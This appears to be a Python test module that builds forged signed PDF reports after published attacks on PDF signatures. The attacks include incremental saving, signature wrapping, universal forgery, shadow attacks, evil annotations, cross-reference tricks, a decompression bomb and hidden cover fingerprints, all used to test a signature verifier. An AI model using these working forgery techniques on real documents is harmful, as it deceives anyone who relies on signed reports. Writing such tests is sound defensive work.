"""Builders of forged reports, each after an attack that has been published against PDF signatures.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (2019: incremental saving, signature wrapping, universal
forgery); Mainka et al., "Shadow Attacks" (2021: hide, replace, hide and replace); Rohlmann et al., "Breaking the
Specification: PDF Certification" (2021: evil annotation, sneaky signature).
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

from auditor_app.services.signing.sign import sign
from tests.attacks.lying_letters import DISTURBED_PRINTS, LYING_FONTS
from tests.attacks.reports import (
    FORGED_SNAPSHOT,
    print_fingerprint,
    report,
    self_made,
    signature_request,
    signed_report,
    stamp,
)

Builder = Callable[[], bytes]

FORGED_TEXT = b"BT /F1 12 Tf 30 780 Td (Standard E2: good) Tj ET"


@dataclass(frozen=True)
class ByteRange:
    """Where a signature dictionary says the signed bytes are."""

    before_gap: int
    after_gap: int
    end: int


def byte_range(pdf: bytes) -> ByteRange:
    found = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert found is not None
    before, after, rest = (int(number) for number in found.groups())
    return ByteRange(before, after, after + rest)


def edited(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    out = BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]  # not annotated in pyHanko
    return out.getvalue()


def dictionary(entries: dict[str, generic.PdfObject]) -> generic.DictionaryObject:
    named = {pdf_name(key): value for key, value in entries.items()}
    return generic.DictionaryObject(named)  # type: ignore[no-untyped-call]  # not annotated in pyHanko


def number(value: int) -> generic.NumberObject:
    return generic.NumberObject(value)  # type: ignore[no-untyped-call]  # not annotated in pyHanko


def numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject(map(number, values))


def truth(*, value: bool) -> generic.BooleanObject:
    return generic.BooleanObject(value)  # type: ignore[no-untyped-call]  # not annotated in pyHanko


def update_root(writer: IncrementalPdfFileWriter) -> None:
    writer.update_root()  # type: ignore[no-untyped-call]  # not annotated in pyHanko


def _replace_page_text(writer: IncrementalPdfFileWriter) -> None:
    page = writer.root["/Pages"]["/Kids"][0]
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    writer.update_container(page)


def _signature(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    signature = writer.root["/AcroForm"]["/Fields"][0]["/V"]
    assert isinstance(signature, generic.DictionaryObject)
    return signature


# --- incremental saving -------------------------------------------------------------------------


def changed_page() -> bytes:
    return edited(signed_report(), _replace_page_text)


def bare_update() -> bytes:
    """The published form: the new objects alone, without the cross-reference table a strict reader wants."""
    new_page_text = b"14 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED_TEXT), FORGED_TEXT)
    return signed_report() + new_page_text + b"trailer\n<< /Root 1 0 R /Size 17 >>\nstartxref\n0\n%%EOF\n"


def changed_catalog() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name("/OpenAction")] = dictionary(
            {"/S": pdf_name("/JavaScript"), "/JS": generic.TextStringObject("app.alert(1)")}
        )
        update_root(writer)

    return edited(signed_report(), change)


# --- attachment swap ----------------------------------------------------------------------------


def swapped_attachment() -> bytes:
    """The data inside the embedded file is replaced in a later revision; nothing on the page changes."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        files = writer.root["/AF"][0]["/EF"]
        forged = writer.add_object(generic.StreamObject(stream_data=FORGED_SNAPSHOT))
        files[pdf_name("/F")] = files[pdf_name("/UF")] = forged
        writer.update_container(files)

    return edited(signed_report(), change)


def second_attachment() -> bytes:
    """A second file of the same name is put first in both lists by a later revision."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        forged = writer.add_object(generic.StreamObject(stream_data=FORGED_SNAPSHOT))
        name = generic.TextStringObject("audit.json")
        spec = writer.add_object(
            dictionary(
                {
                    "/Type": pdf_name("/Filespec"),
                    "/F": name,
                    "/UF": name,
                    "/EF": dictionary({"/F": forged}),
                }
            )
        )
        writer.root["/AF"].insert(0, spec)
        names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
        names.insert(0, spec)
        names.insert(0, generic.TextStringObject("0"))
        update_root(writer)
        writer.update_container(names)

    return edited(signed_report(), change)


# --- signature wrapping -------------------------------------------------------------------------


def wrapped(pdf: bytes | None = None) -> bytes:
    """The second signed part moves to the end; a second /ByteRange in the unsigned gap points there.

    The forged objects and their cross-reference table stand in between, where the old `startxref` looks for it.
    """
    signed = signed_report() if pdf is None else pdf
    old = byte_range(signed)
    start, gap, rest = signed[: old.before_gap], signed[old.before_gap : old.after_gap], signed[old.after_gap :]
    forged = b"14 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED_TEXT), FORGED_TEXT)
    padding = b" " * len(rest)

    def evil(moved_to: int) -> bytes:
        return (
            gap + b"\n/ByteRange [0 %d %010d %d]>>\nendobj\n" % (old.before_gap, moved_to, len(rest)) + forged + padding
        )

    moved_to = len(start) + len(evil(0))
    return start + evil(moved_to) + rest


def wrapped_between() -> bytes:
    """The byte range is widened around the signature, and objects hide behind its hexadecimal digits."""
    signed = signed_report()
    old = byte_range(signed)
    hidden = b"> /Forged (14 0 obj << /Length 0 >> endobj) /Rest <00"
    gap = signed[old.before_gap : old.after_gap]
    return signed[: old.before_gap] + gap[: -len(hidden) - 1] + hidden + gap[-1:] + signed[old.after_gap :]


# --- universal forgery --------------------------------------------------------------------------


def _forged_signature(change: Callable[[generic.DictionaryObject], None]) -> bytes:
    def edit(writer: IncrementalPdfFileWriter) -> None:
        _replace_page_text(writer)
        signature = _signature(writer)
        change(signature)
        writer.update_container(signature)

    return edited(signed_report(), edit)


def _without(key: str) -> Callable[[generic.DictionaryObject], None]:
    def change(signature: generic.DictionaryObject) -> None:
        del signature[pdf_name(key)]

    return change


def _with(key: str, value: generic.PdfObject) -> Callable[[generic.DictionaryObject], None]:
    def change(signature: generic.DictionaryObject) -> None:
        signature[pdf_name(key)] = value

    return change


UNIVERSAL_FORGERIES: dict[str, Callable[[generic.DictionaryObject], None]] = {
    "no byte range": _without("/ByteRange"),
    "null byte range": _with("/ByteRange", generic.NullObject()),
    "empty byte range": _with("/ByteRange", generic.ArrayObject()),
    "zero byte range": _with("/ByteRange", numbers(0, 0, 0, 0)),
    "negative byte range": _with("/ByteRange", numbers(0, -1, -1, -1)),
    "huge byte range": _with("/ByteRange", numbers(0, 1 << 40, 1 << 41, 1 << 40)),
    "short byte range": _with("/ByteRange", numbers(0, 10)),
    "words for a byte range": _with("/ByteRange", generic.TextStringObject("0 1 2 3")),
    "no contents": _without("/Contents"),
    "null contents": _with("/Contents", generic.NullObject()),
    "empty contents": _with("/Contents", generic.ByteStringObject(b"")),
    "zero contents": _with("/Contents", generic.ByteStringObject(bytes(64))),
    "no subfilter": _without("/SubFilter"),
    "unknown subfilter": _with("/SubFilter", pdf_name("/Trust.me")),
    "no filter, no type": _without("/Filter"),
    "another type": _with("/Type", pdf_name("/Something")),
    "time stamp type": _with("/Type", pdf_name("/DocTimeStamp")),
}


def universal_forgery(name: str) -> bytes:
    return _forged_signature(UNIVERSAL_FORGERIES[name])


def emptied_field() -> bytes:
    """The field is made to look as if nobody had signed it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        _replace_page_text(writer)
        signed_field = writer.root["/AcroForm"]["/Fields"][0]
        del signed_field[pdf_name("/V")]
        writer.update_container(signed_field)

    return edited(signed_report(), change)


# --- shadow attacks -----------------------------------------------------------------------------


def _shadow_report() -> bytes:
    """A report prepared by an insider: a second catalog with other pages waits in it, unseen, under the signature."""
    with pikepdf.open(BytesIO(report())) as pdf:
        with pikepdf.open(BytesIO(stamp("Standard E2: good"))) as other:
            pdf.pages.append(other.pages[0])
        hidden = pdf.pages[-1].obj
        del pdf.pages[-1]
        pages = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([hidden])))
        hidden.Parent = pages
        pdf.trailer.Shadow = pdf.make_indirect(Dictionary(Type=Name.Catalog, Pages=pages, AcroForm=pdf.Root.AcroForm))
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return out.getvalue()


def shadow_replace() -> bytes:
    """After the signing, a cross-reference section without a single object makes the waiting catalog the root."""
    signed = sign(_shadow_report(), self_made(), signature_request())
    shadow = re.search(rb"/Shadow (\d+) 0 R", signed)
    assert shadow is not None
    return appended(signed, b"/Root %s 0 R" % shadow.group(1))


def appended(signed: bytes, entries: bytes, section: bytes = b"0 0\n", objects: bytes = b"") -> bytes:
    """Add objects, a table that names some of them, and a trailer, all written by hand."""
    previous = signed.rindex(b"startxref")
    previous_at = int(signed[previous + 9 :].split()[0])
    table = b"xref\n%strailer\n<< %s /Size 100 /Prev %d >>\n" % (section, entries, previous_at)
    return signed + objects + table + b"startxref\n%d\n%%%%EOF\n" % (len(signed) + len(objects))


def shadow_hide() -> bytes:
    """Something lies over the page while it is signed and is taken away afterwards."""
    with pikepdf.open(BytesIO(report())) as pdf:
        cover = pdf.make_stream(
            b"1 g 0 770 400 60 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842])
        )
        pdf.pages[0].obj.Resources.XObject = Dictionary(Cover=cover)
        pdf.pages[0].contents_add(b"q /Cover Do Q")
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    signed = sign(out.getvalue(), self_made(), signature_request())

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        cover = page["/Resources"]["/XObject"].raw_get("/Cover")
        cover_stream = cover.get_object()
        cover_stream.strip_filters()
        cover_stream._data = b""
        writer.update_container(cover_stream)

    return edited(signed, uncover)


def shadow_free() -> bytes:
    """The hide variant with a table alone: the object of the page's text is declared free."""
    return appended(signed_report(), b"/Root 1 0 R", b"14 1\n0000000000 00001 f \n")


# --- certified documents ------------------------------------------------------------------------


def evil_annotation() -> bytes:
    """Free text over the findings; a certified report permits filling its fields, never annotations."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        note = dictionary(
            {
                "/Type": pdf_name("/Annot"),
                "/Subtype": pdf_name("/FreeText"),
                "/Rect": numbers(20, 760, 400, 830),
                "/Contents": generic.TextStringObject("Standard E2: good"),
                "/DA": generic.TextStringObject("/Helv 20 Tf 0 g"),
            }
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page["/Annots"])

    return edited(signed_report(), change)


def evil_annotation_uncertified() -> bytes:
    """The same on a report whose first signature does not certify: our rule does not loosen."""
    signed = sign(report(), self_made(), signature_request(certify=False))

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        note = dictionary(
            {
                "/Type": pdf_name("/Annot"),
                "/Subtype": pdf_name("/FreeText"),
                "/Rect": numbers(20, 760, 400, 830),
                "/Contents": generic.TextStringObject("Standard E2: good"),
            }
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page["/Annots"])

    return edited(signed, change)


def sneaky_field() -> bytes:
    """A new signature field, as large as the page, is added after certification."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("extra", box=(0, 0, 595, 842)))

    return edited(signed_report(), change)


def moved_field() -> bytes:
    """An empty field that was there is drawn over the findings, without anybody signing in it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = writer.root["/AcroForm"]["/Fields"][1]
        widget[pdf_name("/Rect")] = numbers(0, 700, 595, 842)
        writer.update_container(widget)

    return edited(signed_report(), change)


def painted_field() -> bytes:
    """An empty field gets an appearance that looks signed."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = writer.root["/AcroForm"]["/Fields"][1]
        drawing = generic.StreamObject(
            {
                "/Type": pdf_name("/XObject"),
                "/Subtype": pdf_name("/Form"),
                "/BBox": numbers(0, 0, 198, 62),
            },
            stream_data=b"0 g 0 0 198 62 re f",
        )
        widget["/AP"][pdf_name("/N")] = writer.add_object(drawing)
        writer.update_container(widget)

    return edited(signed_report(), change)


# --- the file itself ----------------------------------------------------------------------------


def duplicate_objects() -> bytes:
    """One update defines the page's text twice; readers differ in which they believe."""
    signed = signed_report()
    one = b"14 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n"
    two = b"14 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(FORGED_TEXT), FORGED_TEXT)
    first_at = len(signed)
    second_at = first_at + len(one)
    section = b"14 1\n%010d 00000 n \n14 1\n%010d 00000 n \n" % (first_at, second_at)
    previous_at = int(signed[signed.rindex(b"startxref") + 9 :].split()[0])
    table_at = second_at + len(two)
    trailer = b"trailer\n<< /Root 1 0 R /Size 100 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous_at, table_at)
    return signed + one + two + b"xref\n" + section + trailer


def xref_into_nowhere() -> bytes:
    return appended(signed_report(), b"/Root 1 0 R", b"14 1\n9999999999 00000 n \n")


def xref_loop() -> bytes:
    signed = signed_report()
    table = b"xref\n0 0\ntrailer\n<< /Root 1 0 R /Size 100 /Prev %d >>\n" % len(signed)
    return signed + table + b"startxref\n%d\n%%%%EOF\n" % len(signed)


def wrong_startxref() -> bytes:
    return signed_report() + b"startxref\n17\n%%EOF\n"


def removed_xref() -> bytes:
    return signed_report().replace(b"xref", b"xxxx")


def prepended_bytes() -> bytes:
    return b"%PDF-1.7\n" + signed_report()


def trailing_bytes() -> bytes:
    return signed_report() + b"14 0 obj << >> endobj"


def trailing_comment() -> bytes:
    return signed_report() + b"% nothing to see\n%%EOF\n"


def truncated(share: float) -> bytes:
    signed = signed_report()
    return signed[: int(len(signed) * share)]


def encrypted() -> bytes:
    with pikepdf.open(BytesIO(report())) as pdf:
        out = BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=""))
    return out.getvalue()


def bomb(size: int) -> bytes:
    """A validly signed report whose data unpacks to far more than it may."""
    with pikepdf.open(BytesIO(report())) as pdf:
        spec = pdf.Root.AF[0]
        pressed = zlib.compress(bytes(size), 9)
        spec.EF.F = spec.EF.UF = pdf.make_indirect(
            pikepdf.Stream(pdf, pressed, Type=Name.EmbeddedFile, Filter=Name.FlateDecode)
        )
        out = BytesIO()
        pdf.save(out, deterministic_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return sign(out.getvalue(), self_made(), signature_request())


def alternative_entries() -> bytes:
    """Signed by an insider: /F and /UF of one specification lead to different data."""
    with pikepdf.open(BytesIO(report())) as pdf:
        pdf.Root.AF[0].EF.UF = pdf.make_stream(FORGED_SNAPSHOT, Type=Name.EmbeddedFile)
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return sign(out.getvalue(), self_made(), signature_request())


def two_snapshots() -> bytes:
    """Signed by an insider: two associated files of the fixed name."""
    return sign(report(names=("audit.json", "audit.json")), self_made(), signature_request())


def named_elsewhere() -> bytes:
    """Signed by an insider: a second associated file of the fixed name, whose name stands in an object of its own."""
    with pikepdf.open(BytesIO(report())) as pdf:
        name = pdf.make_indirect(String("audit.json"))
        other = pdf.make_stream(FORGED_SNAPSHOT, Type=Name.EmbeddedFile)
        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=other)))
        pdf.Root.AF.append(spec)
        pdf.Root.Names.EmbeddedFiles.Names.extend([String("z"), spec])
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return sign(out.getvalue(), self_made(), signature_request())


def hidden_snapshot() -> bytes:
    """Signed by an insider: the name tree holds another `audit.json` than the associated file."""
    with pikepdf.open(BytesIO(report())) as pdf:
        other = pdf.make_stream(FORGED_SNAPSHOT, Type=Name.EmbeddedFile)
        spec = Dictionary(Type=Name.Filespec, F=String("audit.json"), EF=Dictionary(F=other))
        pdf.Root.Names.EmbeddedFiles.Names = Array([String("0"), pdf.make_indirect(spec)])
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return sign(out.getvalue(), self_made(), signature_request())


def _signed_by_an_insider(change: Callable[[pikepdf.Pdf], None], unsigned: bytes = b"") -> bytes:
    """A report that its own trusted signer has changed before signing: no later revision gives it away."""
    with pikepdf.open(BytesIO(unsigned or report())) as pdf:
        change(pdf)
        out = BytesIO()
        pdf.save(out, deterministic_id=True)
    return sign(out.getvalue(), self_made(), signature_request())


def other_print() -> bytes:
    """Signed by an insider: the cover prints the fingerprint of other data than those inside."""
    return sign(report(named=FORGED_SNAPSHOT), self_made(), signature_request())


def no_print() -> bytes:
    """Signed by an insider: the cover names no data at all."""

    def change(pdf: pikepdf.Pdf) -> None:
        contents = pdf.pages[0].obj.Contents
        contents.write(contents.read_bytes().partition(b"/TD <<")[0])

    return _signed_by_an_insider(change)


def two_prints() -> bytes:
    """Signed by an insider: the cover prints two fingerprints, and one of them is right."""
    return _signed_by_an_insider(lambda pdf: print_fingerprint(pdf, "0" * 64))


def invisible_print() -> bytes:
    """Signed by an insider: the right fingerprint is set in invisible ink, under another one that is furniture."""

    def change(pdf: pikepdf.Pdf) -> None:
        contents = pdf.pages[0].obj.Contents
        shown, mark, row = contents.read_bytes().partition(b"/TD <<")
        seen = row.partition(b"BDC")[2].replace(b"(0", b"(1")
        contents.write(shown + b"/Artifact BMC " + seen + mark + row.replace(b"BDC", b"BDC 3 Tr", 1) + b" 0 Tr")

    return _signed_by_an_insider(change)


def _covers(change: Callable[[pikepdf.Pdf], None]) -> Builder:
    return lambda: _signed_by_an_insider(change)


def _set_otherwise(old: bytes, new: bytes) -> Callable[[pikepdf.Pdf], None]:
    """Replace something in how the cover sets its fingerprint, which is the last that it sets."""

    def change(pdf: pikepdf.Pdf) -> None:
        contents = pdf.pages[0].obj.Contents
        before, mark, print_ = contents.read_bytes().rpartition(b"/TD <<")
        contents.write(before + (mark + print_).replace(old, new))

    return change


def _laid_over(pdf: pikepdf.Pdf) -> None:
    """White paper over the print, and another print on it."""
    page_ = pdf.pages[0].obj
    drawn = b"1 g 20 80 400 40 re f 0 g BT /Fp 8 Tf 30 100 Td (00000000 00000000 00000000 00000000) Tj ET"
    drawing = pdf.make_stream(drawn, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]))
    drawing.Resources = Dictionary(Font=page_.Resources.Font)
    page_.Resources.XObject = Dictionary(Over=drawing)
    page_.Contents.write(page_.Contents.read_bytes() + b"\n/Artifact BMC /Over Do EMC\n")


def _annotated_over(pdf: pikepdf.Pdf) -> None:
    paper = pdf.make_stream(b"1 g 0 0 500 60 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 500, 60]))
    square = Dictionary(Type=Name.Annot, Subtype=Name.Square, Rect=Array([20, 70, 520, 130]), AP=Dictionary(N=paper))
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(square))


def _switched_off(pdf: pikepdf.Pdf) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("print")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer]), Order=Array([])))
    pdf.pages[0].obj.Resources.Properties = Dictionary(Print=layer)
    _set_otherwise(b"/TD <</MCID 0>> BDC", b"/OC /Print BDC /TD <</MCID 0>> BDC")(pdf)
    pdf.pages[0].obj.Contents.write(pdf.pages[0].obj.Contents.read_bytes() + b" EMC")


def _cropped(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.CropBox = Array([0, 200, 595, 842])


HIDDEN_PRINTS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "laid over": _laid_over,
    "annotated over": _annotated_over,
    "on a layer that is off": _switched_off,
    "cropped away": _cropped,
    "in white": _set_otherwise(b"BT", b"1 g BT"),
    "too small to see": _set_otherwise(b"8 Tf", b"0.01 Tf"),
    "beside the paper": _set_otherwise(b" Td", b" Td 0 -900 Td"),
    "clipped away": _set_otherwise(b"BT", b"q 0 0 1 1 re W n Q BT"),
    "read aloud otherwise": _set_otherwise(b"/MCID 0", b"/MCID 0 /ActualText (0000)"),
}
"""The right fingerprint stands in the content of the cover, and nobody who looks at the page sees it."""

INSIDER_PRINTS: dict[str, tuple[Builder, str]] = {
    "another fingerprint on the cover": (other_print, "verify.data_differ"),
    "no fingerprint on the cover": (no_print, "verify.no_fingerprint"),
    "two fingerprints on the cover": (two_prints, "verify.no_fingerprint"),
    "invisible fingerprint": (invisible_print, "verify.no_fingerprint"),
    **{
        f"fingerprint {how}": (_covers(change), "verify.no_fingerprint")
        for how, change in (HIDDEN_PRINTS | DISTURBED_PRINTS).items()
    },
    **{f"fingerprint in a font {how}": (_covers(change), code) for how, (change, code) in LYING_FONTS.items()},
}
"""Files whose signature holds: only reading the cover finds that it does not name the data inside."""

FORGERIES: dict[str, Builder] = {
    "incremental saving: page": changed_page,
    "incremental saving: bare objects": bare_update,
    "incremental saving: script in the catalog": changed_catalog,
    "attachment swap": swapped_attachment,
    "second attachment": second_attachment,
    "signature wrapping: moved range": wrapped,
    "signature wrapping: inside the gap": wrapped_between,
    "universal forgery: emptied field": emptied_field,
    "shadow: replaced root": shadow_replace,
    "shadow: hidden cover": shadow_hide,
    "shadow: freed object": shadow_free,
    "evil annotation": evil_annotation,
    "evil annotation, uncertified": evil_annotation_uncertified,
    "sneaky field": sneaky_field,
    "moved field": moved_field,
    "painted field": painted_field,
    "duplicate objects": duplicate_objects,
    "table points nowhere": xref_into_nowhere,
    "table points at itself": xref_loop,
    "wrong startxref": wrong_startxref,
    "removed table": removed_xref,
    "prepended bytes": prepended_bytes,
    "trailing bytes": trailing_bytes,
    "trailing comment": trailing_comment,
    "encrypted": encrypted,
}
